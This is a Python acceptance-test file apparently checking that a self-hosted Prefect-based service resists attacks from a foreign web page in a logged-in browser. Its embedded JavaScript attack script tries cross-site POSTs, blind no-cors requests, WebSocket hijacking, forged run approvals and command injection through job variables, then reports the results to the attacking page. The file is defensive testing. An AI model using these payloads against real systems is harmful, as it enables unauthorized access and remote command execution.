"""`patternmill up` against unauthorized access: a page in the person's browser, another user.

A catalog waits for its approval during the attacks; then, in the soak, the person approves it in the same browser.
"""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from prefect.workers.process import ProcessWorker

from prefect_host.client_settings import POOL, TEMPLATE
from tests.acceptance.browser import Browser, installed
from tests.acceptance.harness import some_rows, write_csv
from tests.acceptance.prefect_servers import eventually, lay_database, migrated_database
from tests.acceptance.workers import Up
from tests.acceptance.workers import up as serve
from tests.prefect_api import PrefectApi
from tests.unit.service.sites import Start, answer
from tests.unit.service.sites import start as start

#: Tries every way in which a page can send something; what the browser or the server refuses is recorded as such.
ATTACKS = """
const seen = {};
const tried = async (name, attack) => {
  try { seen[name] = await attack(); } catch (error) { seen[name] = 'refused: ' + error.name; }
};
const read = (path, body) => fetch(API + path, {
  method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify(body || {}),
}).then(answer => 'answered ' + answer.status);
// A body of no type needs no leave of the server, and Prefect takes it for JSON.
const blind = (path, body) => fetch(API + path, {
  method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([JSON.stringify(body)]),
}).then(answer => 'sent ' + answer.type);
const listen = (path, protocols) => new Promise(done => {
  const socket = new WebSocket(API.replace('http', 'ws') + path, protocols);
  socket.onopen = () => socket.send(JSON.stringify({type: 'auth', token: null}));
  socket.onmessage = message => done('answered ' + message.data);
  socket.onclose = end => done('refused: ' + end.code);
});
const now = {type: 'SCHEDULED'};
(async () => {
  const create = '/deployments/' + REFRESH + '/create_flow_run';
  const ordered = {parameters: {source: SOURCE, catalog: 'stolen', environment: 'staging'}, state: now};
  const shell = {state: now, job_variables: {command: 'touch ' + MARK}};
  const redirected = {state: now, job_variables: {env: {PATTERNMILL_STUDIO_URL: location.origin + '/v1'}}};
  const approved = {run_input: {decision: 'approve', name: 'The Director', note: '', code: 'guess-guess'}};
  const attacks = {read: ['/flow_runs/filter', {}], create: [create, ordered], shell: [create, shell],
    redirected: [create, redirected], approved: ['/flow_runs/' + WAITING + '/resume', approved],
    forced: ['/flow_runs/' + WAITING + '/set_state', {state: now, force: true}],
    input: ['/flow_runs/' + WAITING + '/input', {key: 'suspended', value: '{}'}]};
  for (const [name, [path, body]] of Object.entries(attacks)) {
    await tried(name, () => read(path, body));
    await tried(name + ' blind', () => blind(path, body));
  }
  for (const path of ['/events/in', '/events/out', '/logs/out', '/work_pools/' + POOL + '/workers/connect']) {
    await tried('socket ' + path, () => listen(path, ['prefect']));
    await tried('old socket ' + path, () => listen(path));
  }
  const form = document.createElement('form');
  const sink = document.body.appendChild(document.createElement('iframe'));
  Object.assign(form, {method: 'POST', action: API + create, target: sink.name = 'sink'});
  document.body.append(form); form.submit();
  await fetch('/report', {method: 'POST', body: JSON.stringify(seen)});
})();
"""


@dataclass
class Attacked(Up):
    """`patternmill up` with a run that waits for its approval."""

    waiting: str = ""

    @property
    def api(self) -> PrefectApi:
        return self.prefect.api


@pytest.fixture(scope="module")
def up(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    """Serve with a plan that waits for a person."""
    folder = tmp_path_factory.mktemp("up")
    lay_database(migrated_database(tmp_path_factory.getbasetemp()), folder / "home")
    with serve(folder, PATTERNMILL_APPROVE_ABOVE_ITEMS="3") as serving:
        file = str(write_csv(folder / "garden.csv", some_rows(4, about="garden", goods=1)))
        prefect, out = serving.prefect, str(folder / "out")
        waiting = prefect.begin("bulk-import", file=file, environment="staging", out=out)
        yield Attacked(folder, serving.process, prefect.suspended(waiting))


@pytest.fixture(scope="module")
def browser(up: Attacked, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """Yield the person's browser, which is logged in."""
    installed()
    with Browser(tmp_path_factory.mktemp("profile")) as browser:
        browser.open(up.server.login_url())
        browser.until("location.pathname.includes('dashboard')")
        yield browser


@pytest.mark.soak
def test_foreign_page_in_the_logged_in_browser_gets_nothing(
    up: Attacked, start: Start, browser: Browser
) -> None:
    """It knows every address and ID; it reads nothing, starts nothing, approves nothing, receives nothing."""
    before, mark = up.prefect.runs(), up.folder / "mark"
    constants = {
        "API": up.api.url,
        "REFRESH": up.prefect.deployment("catalog-refresh"),
        "WAITING": up.waiting,
        "SOURCE": str(up.folder / "garden.csv"),
        "MARK": str(mark),
        "POOL": POOL,
    }
    script = "".join(f"const {name} = {json.dumps(text)};" for name, text in constants.items()) + ATTACKS
    page, thief = f"<!doctype html><body><script>{script}</script>", start()
    thief.answers("/", answer(200, page.encode(), Content_Type="text/html"))
    browser.open(thief.url)
    eventually(lambda: thief.bodies, 90, lambda: browser.text())
    seen = json.loads(thief.bodies[0])
    assert len(seen) == 22
    # A blind request is sent and its answer is invisible: its effects are checked below.
    assert [name for name, end in seen.items() if "refused" not in end and "blind" not in name] == [], seen
    assert up.prefect.runs() == before
    assert up.prefect.state(up.waiting)["name"] == "Suspended"
    assert not mark.exists()
    # Calls of the interface would have carried the worker's key.
    assert not [path for path in thief.paths if path.startswith("/v1")]


def test_user_without_the_credential_gets_health_and_files_only(up: Attacked) -> None:
    """Without the credential the server shows its health and the UI's files, and nothing else."""
    for path in ("version", "admin/settings", "deployments/filter"):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(f"{up.api.url}/{path}", timeout=20)
        with refused.value as answer:
            assert answer.code in {401, 404}, path
    with urllib.request.urlopen(f"{up.api.url}/health", timeout=20) as answer:
        policy = answer.headers["Content-Security-Policy"]
    # They prevent clickjacking, and fetches that a displayed text might cause.
    for rule in (
        "frame-ancestors 'none'",
        "img-src 'self' data: blob:",
        "connect-src 'self'",
        "base-uri 'self'",
    ):
        assert rule in policy


def test_credential_is_kept_nowhere_else(up: Attacked) -> None:
    """Not in the processes' arguments, in printed output, in any log or database."""
    secret = up.server.credential.partition(":")[2].encode()
    for place in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            assert secret not in place.read_bytes(), place
    holding = [path for path in up.folder.rglob("*") if path.is_file() and secret in path.read_bytes()]
    assert holding == [up.folder / "home" / "prefect" / "credential"]


def test_run_may_choose_only_its_parameters(up: Attacked) -> None:
    """It may not choose its command or environment: the server refuses, and so does a worker whose pool allows it."""
    mark = up.folder / "mark"
    wishes: list[dict[str, Any]] = [{"command": f"touch {mark}"}, {"env": {"PATTERNMILL_STUDIO_URL": "x"}}]
    for wish in [*wishes, {"env.PATTERNMILL_STUDIO_URL": "x"}, {"working_dir": "/"}]:
        with pytest.raises(urllib.error.HTTPError) as refused:
            up.prefect.order("bulk-import", job_variables=wish)
        with refused.value as answer:
            assert answer.code in {409, 422}, wish
    up.api.patch(f"work_pools/{POOL}", {"base_job_template": ProcessWorker.get_default_base_job_template()})
    try:
        order, parameters = up.prefect.order, {"file": "none.csv"}
        runs = [order("bulk-import", job_variables=wish, parameters=parameters) for wish in wishes]
        for wish, ended in zip(wishes, map(up.prefect.ended, runs), strict=True):
            assert ended["type"] == "CRASHED"
            assert (
                f"sets {'command' if 'command' in wish else 'env PATTERNMILL_STUDIO_URL'}" in ended["message"]
            )
    finally:
        up.api.patch(f"work_pools/{POOL}", {"base_job_template": json.loads(TEMPLATE.read_text("utf-8"))})
    assert not mark.exists()


@pytest.mark.soak
def test_plan_is_approved_in_the_ui(up: Attacked, browser: Browser) -> None:
    """The note is kept, and the run completes. Ledger and pictures are private, the results follow the umask."""
    browser.open(f"{up.ui}/runs/flow-run/{up.waiting}")
    browser.click("Resume")
    browser.shows("kept with the decision")
    for label, text in [("Decision", "approve"), ("Note", "A. Weaver, for the garden")] * 2:
        browser.fill(label, text)
    browser.click("Submit")
    assert up.prefect.ended(up.waiting)["name"] == "Completed"
    assert len((up.folder / "out" / "results.csv").read_text("utf-8").splitlines()) == 5
    home = up.folder / "home"
    assert open_to_others(home) == [] != open_to_others(up.folder / "out")
    assert any(path.suffix == ".png" for path in home.rglob("*"))


def test_home_is_private(up: Attacked) -> None:
    """Databases, logs and credentials are private."""
    assert open_to_others(up.folder / "home") == []


def open_to_others(folder: Path) -> list[str]:
    return [
        f"{path} {path.stat().st_mode:o}"
        for path in (folder, *folder.rglob("*"))
        if not path.is_symlink() and path.stat().st_mode & 0o077
    ]
